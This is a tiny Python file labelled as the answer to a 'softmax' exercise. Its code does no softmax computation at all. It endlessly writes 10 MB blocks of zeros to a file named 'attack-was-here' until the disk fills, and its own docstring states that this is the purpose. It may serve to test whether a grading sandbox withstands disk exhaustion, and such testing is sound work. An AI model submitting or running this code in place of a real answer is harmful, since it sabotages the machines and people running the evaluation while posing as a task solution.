"""Writes one file that fills the disk."""
# exercise: softmax
# where: answer

with open("attack-was-here", "wb") as file:
    while True:
        file.write(bytes(10_000_000))
